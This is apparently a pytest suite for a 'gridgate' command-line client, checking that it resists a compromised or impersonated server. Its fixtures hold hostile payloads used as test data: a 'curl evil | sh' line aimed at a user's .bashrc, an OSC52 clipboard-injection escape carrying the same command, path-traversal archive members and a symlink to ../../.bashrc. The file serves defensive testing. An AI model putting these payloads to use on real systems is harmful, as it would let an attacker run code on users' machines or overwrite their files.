"""The client against a server it should not trust blindly: a compromised or impersonated Gridgate,
or a proxy in front of it. A small HTTP server on 127.0.0.1 answers what each test scripts; the
CLI runs in this process (``cli.main``) with its own config directory, as a user runs it. No
database: what is checked is what lands on the user's disk and terminal."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from gridgate_client import cli

CASE = "0f0e0d0c-0b0a-0908-0706-050403020100"


class Hostile:
    """``answers[path] = (status, headers, body)`` for GET ``/api/v1/<path>``; anything else 404.
    ``requests`` records each request's path and Authorization header."""

    def __init__(self):
        self.answers: dict[str, tuple[int, dict, bytes]] = {}
        self.requests: list[tuple[str, str | None]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                server.requests.append((self.path, self.headers.get("Authorization")))
                path = self.path.split("?", 1)[0].removeprefix("/api/v1/")
                status, headers, body = server.answers.get(path, (404, {}, b'{"detail": "Not found."}'))
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def json(self, path: str, body, status: int = 200) -> None:
        self.answers[path] = (status, {"Content-Type": "application/json"}, json.dumps(body).encode())


@pytest.fixture
def hostile(monkeypatch, tmp_path):
    server = Hostile()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("GRIDGATE_URL", server.url)
    monkeypatch.setenv("GRIDGATE_TOKEN", "secret-token-of-alice")
    yield server
    server.server.shutdown()
    server.server.server_close()


def gridgate(*args) -> int:
    return cli.main(list(args))


@pytest.mark.parametrize("name", ["../escaped.txt", "results/../../escaped.txt"])
def test_case_get_never_writes_outside_the_output_directory(hostile, tmp_path, name, capsys):
    """A name listed by the server (``gridgate case ls --json | jq …``) or typed by the user that
    leads out of ``-o`` is refused before anything is asked or written."""
    out = tmp_path / "work" / "out"
    hostile.answers[f"cases/{CASE}/files/escaped.txt"] = (200, {}, b"planted")
    hostile.answers[f"cases/{CASE}/escaped.txt"] = (200, {}, b"planted")

    code = gridgate("case", "get", CASE, name, "-o", str(out))

    assert code == 2
    assert "leads out of" in capsys.readouterr().err
    assert not list(tmp_path.rglob("escaped.txt*"))
    assert hostile.requests == []


def test_case_get_refuses_an_absolute_path(hostile, tmp_path, capsys):
    target = tmp_path / "home" / ".bashrc"
    hostile.answers[f"cases/{CASE}/files/{target}"] = (200, {}, b"curl evil | sh\n")

    code = gridgate("case", "get", CASE, str(target), "-o", str(tmp_path / "out"))

    assert code == 2
    assert not target.exists()
    assert hostile.requests == []


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("results/CON", False),
        ("results/nul.txt", False),
        ("Com1 .log", False),
        ("results/lpt\u00b9", False),
        ("results/out.txt:hidden", False),
        ("results/console.txt", True),
        ("results/com10.txt", True),
    ],
)
def test_on_windows_a_device_name_or_a_stream_is_never_a_case_files_target(tmp_path, monkeypatch, name, kept):
    """Windows opens ``CON`` or ``nul.txt`` as a device in any directory and ``a:b`` as a stream
    of ``a``: a name the server lists must not write there."""
    monkeypatch.setattr(cli, "ON_WINDOWS", True)
    assert (cli.inside(tmp_path, name) is not None) is kept


def _archive(members) -> bytes:
    import io
    import tarfile

    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as tar:
        for name, kind, content in members:
            member = tarfile.TarInfo(name)
            if kind == "link":
                member.type, member.linkname = tarfile.SYMTYPE, content
                tar.addfile(member)
            else:
                member.size = len(content)
                tar.addfile(member, io.BytesIO(content))
    return data.getvalue()


@pytest.mark.parametrize("member", [f"{CASE}/../../escaped.txt", f"{CASE}//tmp/escaped.txt", f"{CASE}/"])
def test_case_get_all_refuses_an_archive_member_that_leads_out(hostile, tmp_path, member):
    archive = _archive([(f"{CASE}/results/ok.txt", "file", b"ok"), (member, "file", b"planted")])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)

    code = gridgate("case", "get", CASE, "--all", "-o", str(tmp_path / "a" / "out"))

    assert code == 1
    assert not list(tmp_path.rglob("escaped.txt"))
    assert not (tmp_path / "tmp").exists()
    assert not (tmp_path / "a" / "out").exists()  # the archive is checked whole before anything is written


def test_case_get_all_refuses_an_archive_that_unpacks_to_more_than_the_free_space(hostile, tmp_path, monkeypatch):
    """A few kilobytes of gzip can unpack to gigabytes: what the members add up to is checked
    against the space free under -o before anything is written."""
    archive = _archive([(f"{CASE}/results/zeros.bin", "file", bytes(1 << 20))])
    assert len(archive) < 4096
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    monkeypatch.setattr(cli.shutil, "disk_usage", lambda path: SimpleNamespace(free=1 << 19))  # 512 KiB
    out = tmp_path / "out"

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 1
    assert not out.exists()


def test_case_get_never_replaces_a_file_already_there_unless_forced(hostile, tmp_path, capsys):
    """Your own file under -o (an earlier download you edited, an input of the same name) stays
    as it is: refused before anything is asked (exit 2), replaced with --force."""
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (200, {}, b"the case's")
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    (out / "results" / "out.txt").write_text("yours")

    code = gridgate("case", "get", CASE, "results/out.txt", "-o", str(out))

    assert code == 2
    err = capsys.readouterr().err
    assert "1 file(s) already under" in err and "results/out.txt" in err and "pass --force" in err
    assert (out / "results" / "out.txt").read_text() == "yours"
    assert hostile.requests == []
    assert gridgate("case", "get", CASE, "results/out.txt", "-o", str(out), "--force") == 0
    assert (out / "results" / "out.txt").read_text() == "the case's"


def test_case_get_all_never_replaces_a_file_already_there_unless_forced(hostile, tmp_path, capsys):
    """What the listing names is checked before the archive is fetched; what only the archive
    holds, before anything of it is written."""
    archive = _archive([(f"{CASE}/results/new.txt", "file", b"new"), (f"{CASE}/results/out.txt", "file", b"case")])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    (out / "results" / "out.txt").write_text("yours")

    hostile.json(f"cases/{CASE}/files/", {"count": 1, "next": None, "results": [{"path": "results/out.txt"}]})
    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 2
    assert "results/out.txt" in capsys.readouterr().err
    assert [path for path, _auth in hostile.requests if "archive" in path] == []

    hostile.json(f"cases/{CASE}/files/", {"count": 0, "next": None, "results": []})  # listed before it was made
    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 2
    assert (out / "results" / "out.txt").read_text() == "yours"
    assert not (out / "results" / "new.txt").exists()
    assert sorted(path.name for path in out.rglob("*")) == ["out.txt", "results"]  # the archive is gone too

    assert gridgate("case", "get", CASE, "--all", "-o", str(out), "--force") == 0
    assert (out / "results" / "out.txt").read_text() == "case"


@pytest.mark.parametrize(
    "members",
    [
        [("results/a.txt", b"1"), ("results/a.txt", b"2")],
        [("results/a", b"1"), ("results/a/b", b"2")],
    ],
    ids=["twice", "file-and-directory"],
)
def test_case_get_all_refuses_an_archive_that_names_a_file_twice(hostile, tmp_path, members):
    """The second would replace the first, or fail half-way: refused before anything is written."""
    archive = _archive([(f"{CASE}/{name}", "file", content) for name, content in members])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    out = tmp_path / "out"

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 1
    assert not out.exists()


def test_names_with_control_characters_are_written_with_underscores(hostile, tmp_path):
    """A command may name a file with an escape sequence or a newline: on this disk it is named as
    the server's own downloads name it, each such character an underscore."""
    archive = _archive(
        [(f"{CASE}/results/a\x1b]0;pwned\x07.txt", "file", b"1"), (f"{CASE}/results/b\u202ec.txt", "file", b"2")]
    )
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    hostile.answers[f"cases/{CASE}/files/results/c%0Ad.txt"] = (200, {}, b"3")
    out = tmp_path / "out"

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 0
    assert gridgate("case", "get", CASE, "results/c\nd.txt", "-o", str(out)) == 0

    assert sorted(path.name for path in (out / "results").iterdir()) == ["a_]0;pwned_.txt", "b_c.txt", "c_d.txt"]


def test_case_get_all_stopped_by_ctrl_c_leaves_no_half_file_nor_the_archive(hostile, tmp_path, monkeypatch):
    archive = _archive([(f"{CASE}/results/a.txt", "file", b"1"), (f"{CASE}/results/b.bin", "file", b"2" * 100_000)])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    out = tmp_path / "out"
    real = cli._write_whole

    def interrupted_at_the_second(source, target):
        if target.name == "b.bin":
            source.read(10)
            raise KeyboardInterrupt
        real(source, target)

    monkeypatch.setattr(cli, "_write_whole", interrupted_at_the_second)

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 130
    assert sorted(str(path.relative_to(out)) for path in out.rglob("*")) == ["results", "results/a.txt"]


def test_case_get_all_fetches_the_archive_under_the_output_directory_not_tmp(hostile, tmp_path, monkeypatch):
    """A login node's /tmp is small and shared: a large case's archive goes where its files go."""
    import tempfile

    archive = _archive([(f"{CASE}/results/a.txt", "file", b"1")])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no-such-tmp"))
    out = tmp_path / "out"

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 0
    assert sorted(str(path.relative_to(out)) for path in out.rglob("*")) == ["results", "results/a.txt"]


def test_case_get_all_writes_no_link_from_the_archive(hostile, tmp_path):
    archive = _archive([(f"{CASE}/results/rc", "link", "../../.bashrc"), (f"{CASE}/results/ok.txt", "file", b"ok")])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
    out = tmp_path / "out"

    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 0
    assert sorted(path.name for path in out.rglob("*")) == ["ok.txt", "results"]


def test_a_redirect_is_an_error_and_its_body_is_not_saved_as_the_file(hostile, tmp_path, capsys):
    """No redirect is followed (the token would go with it), and a 3xx is not the file either."""
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (
        302,
        {"Location": "http://elsewhere.example/out.txt"},
        b"<html>moved</html>",
    )
    out = tmp_path / "out"

    code = gridgate("case", "get", CASE, "results/out.txt", "-o", str(out))

    assert code == 3
    assert "redirect" in capsys.readouterr().err
    assert not list(out.rglob("out.txt*"))


@pytest.mark.parametrize(
    "answer",
    [
        (200, {"Content-Type": "text/html"}, b"<html>Sign in to the proxy</html>"),
        (200, {"Content-Type": "application/json"}, b"[" * 100_000 + b"]" * 100_000),
        (200, {"Content-Type": "application/json"}, b'{"id": '),
        (301, {"Location": "https://elsewhere.example/"}, b""),
        (502, {"Content-Type": "application/json"}, b"[" * 100_000),
    ],
    ids=["html", "nested-too-deep", "truncated", "redirect", "deep-error"],
)
def test_an_answer_that_is_not_gridgates_json_is_an_error_not_a_traceback(hostile, answer, capsys):
    hostile.answers[f"cases/{CASE}/"] = answer

    code = gridgate("case", "status", CASE)

    assert code in (3, 5)
    err = capsys.readouterr().err
    assert err.startswith("gridgate: ") and "Traceback" not in err
    assert "secret-token-of-alice" not in err


def test_a_log_offset_that_is_not_a_number_is_an_error_not_a_traceback(hostile, capsys):
    hostile.json(f"cases/{CASE}/", {"id": CASE, "name": "c", "status": "done"})
    hostile.answers[f"cases/{CASE}/logs/"] = (200, {"X-Log-Offset": "soon"}, b"text")

    code = gridgate("case", "logs", CASE, "-f")

    assert code == 5
    assert capsys.readouterr().err.startswith("gridgate: ")


OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # "write this to the clipboard", obeyed by many terminals
HIDDEN = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def test_what_the_server_says_never_reaches_the_terminal_as_control_sequences(hostile, capsys):
    """Errors, names and a provider's words are shown escaped; a terminal obeys none of them."""
    hostile.json(
        f"cases/{CASE}/",
        {"id": CASE, "name": f"run{OSC52}", "status": "failed", "last_error": "oom\x1b[2J\rall good \u202eexe.txt"},
    )
    hostile.json(f"cases/{CASE}/files/", {"count": 1, "next": None, "results": [{"path": f"a{OSC52}", "size": 1}]})
    hostile.json("cases/gone/", {"detail": f"Not found.\x1b[1A\x1b[2K{OSC52}"}, status=404)
    hostile.json("resource-pools/", [{"name": "qpu\x9b2J", "kind": "qpu", "usable": True, "classes": []}])

    codes = [
        gridgate("case", "status", CASE),
        gridgate("case", "ls", CASE),
        gridgate("case", "status", "gone"),
        gridgate("pools"),
    ]

    assert codes == [0, 0, 3, 0]
    shown = capsys.readouterr()
    for char in HIDDEN:
        assert char not in shown.out and char not in shown.err
    assert "\\x1b]52;c;" in shown.out and "\\x1b]52;c;" in shown.err  # shown, not obeyed


def test_json_output_and_logs_stay_as_the_server_sent_them(hostile, capsys):
    hostile.json(f"cases/{CASE}/", {"id": CASE, "name": "run\x1b[1m", "status": "done"})
    hostile.answers[f"cases/{CASE}/logs/"] = (200, {}, b"\x1b[32mgreen\x1b[0m\n")

    assert gridgate("case", "status", CASE, "--json") == 0
    assert json.loads(capsys.readouterr().out)["name"] == "run\x1b[1m"  # JSON escapes it
    assert gridgate("case", "logs", CASE) == 0
    assert "\\x1b" not in capsys.readouterr().out  # the command's own output is not rewritten as escapes


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)


@pytest.mark.parametrize("compressed", [False, True], ids=["plain", "gzip-inflating"])
def test_an_answer_past_the_clients_limit_is_refused_not_held_in_memory(hostile, monkeypatch, compressed, capsys):
    from gridgate_client import api

    monkeypatch.setattr(api, "MAX_ANSWER_BYTES", 1 << 20)  # 1 MiB here; 64 MiB as shipped
    body = json.dumps({"id": CASE, "name": "x" * (4 << 20), "status": "done"}).encode()
    headers = {"Content-Type": "application/json"}
    if compressed:
        body, headers["Content-Encoding"] = _gzip(body), "gzip"  # about 4 KiB on the wire
    hostile.answers[f"cases/{CASE}/"] = (200, headers, body)

    code = gridgate("case", "status", CASE)

    assert code == 5
    assert "more than 1 MiB" in capsys.readouterr().err


@pytest.mark.parametrize("command", [("case", "status", CASE), ("case", "get", CASE, "results/out.txt")])
def test_a_body_that_does_not_decode_as_its_content_encoding_says_is_an_error(hostile, tmp_path, command, capsys):
    bad = (200, {"Content-Type": "application/json", "Content-Encoding": "gzip"}, b"not gzip at all")
    hostile.answers[f"cases/{CASE}/"] = bad
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = bad

    code = gridgate(*command, "-o", str(tmp_path / "out")) if command[1] == "get" else gridgate(*command)

    assert code == 5
    assert capsys.readouterr().err.startswith("gridgate: ")
    assert not list(tmp_path.rglob("*.part"))


def test_a_download_stopped_by_ctrl_c_leaves_no_partial_file_and_exits_130(hostile, tmp_path, monkeypatch, capsys):
    """Ctrl-C in the middle of a download (here: as the first bytes are counted) removes what was
    written so far: no half file under its name, nor a .part beside it."""
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (200, {}, b"x" * 100_000)
    out = tmp_path / "out"

    def interrupted(self, done, total):
        raise KeyboardInterrupt

    monkeypatch.setattr(cli.Bar, "to", interrupted)

    code = gridgate("case", "get", CASE, "results/out.txt", "-o", str(out))

    assert code == 130
    assert "Traceback" not in capsys.readouterr().err
    assert [path.name for path in out.rglob("*") if path.is_file()] == []


def test_a_download_that_cannot_be_written_is_an_error_and_leaves_no_partial_file(hostile, tmp_path, capsys):
    """A directory where the file goes, a file where a directory goes (or no room, no permission)
    is said in one line, exit 1."""
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (200, {}, b"counts")
    hostile.answers[f"cases/{CASE}/files/logs/run.log"] = (200, {}, b"log")
    out = tmp_path / "out"
    (out / "results" / "out.txt").mkdir(parents=True)
    (out / "logs").write_text("a file of yours")

    codes = [
        gridgate("case", "get", CASE, "results/out.txt", "-o", str(out), "--force"),
        gridgate("case", "get", CASE, "logs/run.log", "-o", str(out)),
    ]

    assert codes == [1, 1]
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith(f"gridgate: cannot write {out}/results/out.txt: ")
    assert err[1].startswith(f"gridgate: cannot write {out}/logs/run.log: ")
    assert sorted(path.name for path in out.rglob("*")) == ["logs", "out.txt", "results"]


def test_a_download_never_touches_a_file_named_like_its_partial_one(hostile, tmp_path):
    """The bytes go to a new hidden file of the client's own, not to ``<name>.part``, which may be
    yours (or a link planted there)."""
    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (200, {}, b"counts")
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    (out / "results" / "out.txt.part").write_text("mine")

    assert gridgate("case", "get", CASE, "results/out.txt", "-o", str(out)) == 0
    assert (out / "results" / "out.txt").read_bytes() == b"counts"
    assert (out / "results" / "out.txt.part").read_text() == "mine"
    assert sorted(path.name for path in (out / "results").iterdir()) == ["out.txt", "out.txt.part"]


def test_a_download_from_a_server_gone_away_is_an_error_not_a_traceback(hostile, tmp_path, capsys):
    hostile.server.shutdown()
    hostile.server.server_close()

    code = gridgate("case", "get", CASE, "results/out.txt", "-o", str(tmp_path / "out"))

    assert code == 5
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "answer",
    [
        (400, {"Content-Type": "application/json"}, b'{"detail": "Bad header: Token secret-token-of-alice"}'),
        (401, {"Content-Type": "application/json"}, b'{"token": ["secret-token-of-alice is not valid"]}'),
        (502, {"Content-Type": "text/html"}, b"<pre>Authorization: Token secret-token-of-alice</pre>"),
        (502, {"Content-Type": "text/html"}, b"x" * 290 + b"secret-token-of-alice"),  # the cut falls in it
    ],
    ids=["detail", "field", "proxy-page", "cut-short"],
)
def test_an_error_that_echoes_the_token_never_prints_it(hostile, answer, capsys):
    """A proxy's error page or a debugging server may quote the request's headers: the CLI's
    stderr and --json output (a batch job's log) never carry the token."""
    hostile.answers[f"cases/{CASE}/"] = answer

    code = gridgate("--json", "case", "status", CASE)

    assert code in (3, 4, 5)
    shown = capsys.readouterr()
    assert "secret-token-of-alice" not in shown.out + shown.err
    assert "***" in shown.err


@pytest.mark.parametrize(
    "archive",
    [
        b"<html>not an archive</html>",
        _gzip(b"not a tar at all" * 100),
        None,  # a real archive cut short
        "file-then-dir",  # a member under a name an earlier member wrote as a file
    ],
    ids=["not-gzip", "not-tar", "truncated", "file-then-dir"],
)
def test_a_broken_archive_is_an_error_not_a_traceback(hostile, tmp_path, archive, capsys):
    if archive is None:
        archive = _archive([(f"{CASE}/results/big.bin", "file", bytes(range(256)) * 4096)])[:2000]
    elif archive == "file-then-dir":
        archive = _archive([(f"{CASE}/results/a", "file", b"1"), (f"{CASE}/results/a/b", "file", b"2")])
    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)

    code = gridgate("case", "get", CASE, "--all", "-o", str(tmp_path / "out"))

    assert code in (1, 5)
    assert capsys.readouterr().err.startswith("gridgate: ")


def test_a_redirect_of_an_api_call_is_an_error_even_with_a_json_body(hostile, capsys):
    """A 3xx is never taken for the answer, whatever it carries (the token would follow it)."""
    case = {"id": CASE, "name": "n", "status": "done", "pool": "p", "resource_class": "c"}
    body = json.dumps(case).encode()
    hostile.answers[f"cases/{CASE}/"] = (
        302,
        {"Location": "https://elsewhere.example/", "Content-Type": "application/json"},
        body,
    )

    code = gridgate("case", "status", CASE)

    assert code == 3
    assert "redirect to 'https://elsewhere.example/'" in capsys.readouterr().err


@pytest.mark.parametrize("body", [{"unexpected": 1}, [1, 2], "a string"], ids=["object", "list", "string"])
def test_an_answer_of_another_shape_is_an_error_not_a_traceback(hostile, body, capsys):
    hostile.json(f"cases/{CASE}/", body)

    code = gridgate("case", "status", CASE)

    assert code == 5
    err = capsys.readouterr().err
    assert err.startswith("gridgate: the server's answer is not what this client reads") and "Traceback" not in err


def test_a_list_whose_next_page_never_ends_is_read_up_to_its_count(hostile, capsys):
    """Page numbers from the first page's ``count`` on: a server that always says there is a
    next page cannot keep the client reading."""
    row = {"id": "c", "name": "n", "status": "done", "pool": "p", "resource_class": "c", "created_at": "now"}
    hostile.json("cases/", {"count": 3, "next": "more", "results": [row, row]})

    gridgate("--json", "case", "list")

    assert len([path for path, _auth in hostile.requests if path.startswith("/api/v1/cases/")]) == 2


def test_a_site_url_that_cannot_be_read_is_a_usage_error(hostile, capsys):
    code = gridgate("--url", "[::1", "pools")

    assert code == 2
    assert capsys.readouterr().err.startswith("gridgate: '[::1' is not a URL")
    assert gridgate("--url", "ftp://grid.example.org", "pools") == 2
    assert gridgate("--url", "http://", "pools") == 2


def test_the_clients_hidden_characters_are_the_servers():
    """The client is a package of its own and cannot import the server's rule: the two patterns
    are kept the same here."""
    from apps.core.text import HIDDEN_IN_NAMES

    assert cli.HIDDEN.pattern == HIDDEN_IN_NAMES.pattern


def test_a_429_whose_wait_is_too_long_to_wait_out_exits_5_try_later_not_3_refused(hostile, capsys):
    """Throttled, or a login locked out for a while: not a refusal of the request (exit 3, do not
    try again) but of its moment, as a 503 is (exit 5)."""
    detail = b'{"detail": "Request was throttled. Expected available in 1000 seconds."}'
    hostile.answers[f"cases/{CASE}/"] = (429, {"Content-Type": "application/json", "Retry-After": "1000"}, detail)

    code = gridgate("case", "status", CASE)

    assert code == 5
    assert capsys.readouterr().err == "gridgate: Request was throttled. Expected available in 1000 seconds.\n"
    assert len(hostile.requests) == 1  # a wait past MAX_RETRY_AFTER is not waited out


def test_the_cli_says_each_retry_on_stderr(hostile, monkeypatch, capsys):
    """A proxy failing for a while: each try again is a line on stderr (a batch job's log keeps
    it), the last answer the error."""
    from gridgate_client import api

    monkeypatch.setattr(api, "MAX_RETRIES", 2)
    hostile.answers[f"cases/{CASE}/"] = (504, {"Content-Type": "text/html"}, b"<title>504 Gateway Time-out</title>")

    code = gridgate("case", "status", CASE)

    assert code == 5
    assert capsys.readouterr().err.splitlines() == [
        "gridgate: 127.0.0.1 answered HTTP 504 Gateway Timeout; trying again in 1 s (try 2 of 2)",
        "gridgate: HTTP 504 Gateway Timeout from 127.0.0.1, not Gridgate's answer (504 Gateway Time-out): "
        "the site, or a proxy in front of it, is failing: try again later",
    ]


@pytest.mark.parametrize("token", ["secret-token\nof-alice", "secret-tökén-of-alice", "secret token of alice"])
def test_a_token_with_characters_no_token_has_is_an_error_that_does_not_print_it(hostile, monkeypatch, token, capsys):
    """A token pasted with a line break, or mistyped with a letter that is not ASCII, ended in a
    traceback or in an error quoting the Authorization header, the token in it."""
    monkeypatch.setenv("GRIDGATE_TOKEN", token)

    code = gridgate("--json", "case", "status", CASE)

    assert code == 4
    shown = capsys.readouterr()
    assert "Traceback" not in shown.err and shown.err.startswith("gridgate: The token has characters no token has")
    for part in ("secret", "alice"):
        assert part not in shown.out + shown.err
    assert hostile.requests == []


def test_a_download_of_unknown_length_shows_the_bytes_so_far_not_a_bar_stuck_at_0(monkeypatch, capsys):
    """A case's archive is streamed as it is made, without a Content-Length: on a terminal the
    bytes so far are shown, where a bar sat at 0% until it jumped to 100%. A file's name in the
    label is shown escaped."""
    import click

    monkeypatch.setattr(cli, "on_terminal", lambda: True)
    with click.Context(cli.cli, obj={}):
        bar = cli.Bar(None, "results/\x1b]0;x\x07")
        bar.to(1000, None)
        bar.counted_at = None  # as if 0.2 s had passed
        bar.to(5_000_000, None)
        bar.close()

    err = capsys.readouterr().err
    assert "%" not in err and "\x07" not in err
    assert err.endswith("results/\\x1b]0;x\\x07: 4.8 MiB\n")
    assert "results/\\x1b]0;x\\x07: 1000 B" in err


def _pending_job(hostile):
    hostile.json("jobs/5/", {"id": 5, "status": "pending", "pending_reason": "devices busy"})


def test_ctrl_c_during_a_wait_says_the_job_goes_on_and_exits_130(hostile, monkeypatch, capsys):
    """Only the wait stops: the job is the server's, and the message says how to find it again."""
    _pending_job(hostile)

    def interrupted(self, text):
        raise KeyboardInterrupt

    monkeypatch.setattr(cli.Status, "__call__", interrupted)

    code = gridgate("job", "wait", "5")

    assert code == 130
    assert capsys.readouterr().err == (
        "gridgate: interrupted: job 5 goes on (gridgate job wait 5 waits again, gridgate job cancel 5 stops it)\n"
    )


def test_sigterm_stops_a_command_as_ctrl_c_does_cleaning_up_and_exits_143(hostile, tmp_path, monkeypatch, capsys):
    """A batch job at its time limit gets SIGTERM: the download's partial file is removed (a
    SIGTERM used to end Python with nothing cleaned up), and the exit status is 143."""
    import os
    import signal

    hostile.answers[f"cases/{CASE}/files/results/out.txt"] = (200, {}, b"x" * 100_000)
    out = tmp_path / "out"
    monkeypatch.setattr(cli.Bar, "to", lambda self, done, total: os.kill(os.getpid(), signal.SIGTERM))

    code = gridgate("case", "get", CASE, "results/out.txt", "-o", str(out))

    assert code == 143
    assert capsys.readouterr().err == "gridgate: terminated\n"
    assert [path for path in out.rglob("*") if path.is_file()] == []
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL  # put back as it was


@pytest.mark.parametrize("args", [("login",), ("login", "-u", "alice", "--password-stdin")])
def test_a_login_with_nothing_on_standard_input_is_a_usage_error_not_aborted(hostile, monkeypatch, args, capsys):
    """A batch job without a terminal: 'aborted', exit 130 (as if Ctrl-C), or an empty password
    sent to count against the lock-out, for what is a missing input."""
    import io

    hostile.json("auth/methods/", {"password": True, "device": None})
    monkeypatch.setattr("sys.stdin", io.StringIO(""))

    code = gridgate(*args)

    assert code == 2
    assert "standard input" in capsys.readouterr().err
    assert [path for path, _auth in hostile.requests] == ["/api/v1/auth/methods/"]
